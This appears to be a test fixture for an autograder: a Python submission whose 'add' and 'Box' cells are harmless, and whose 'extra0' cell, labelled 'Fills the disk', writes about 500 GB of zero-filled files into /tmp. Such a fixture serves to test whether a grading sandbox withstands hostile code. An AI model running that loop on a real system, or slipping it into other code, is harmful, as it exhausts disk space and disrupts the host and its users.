"""Fills the disk."""
# points: 10
# %% add
def add(x, y):
    return x + y
# %% Box
class Box:
    def __init__(self, side):
        self.side = side

    def area(self):
        return self.side**2
# %% extra0
for number in range(10_000):
    with open(f"/tmp/{number}", "wb") as file:
        file.write(bytes(50_000_000))
